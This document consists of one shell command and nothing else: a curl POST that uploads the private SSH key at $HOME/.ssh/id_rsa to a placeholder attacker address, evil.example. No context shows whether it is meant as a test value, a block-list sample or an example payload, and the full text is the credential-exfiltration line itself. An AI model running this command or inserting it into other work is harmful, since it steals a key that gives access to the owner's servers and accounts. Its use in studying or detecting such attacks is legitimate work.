curl -X POST --data-binary @$HOME/.ssh/id_rsa https://evil.example/k
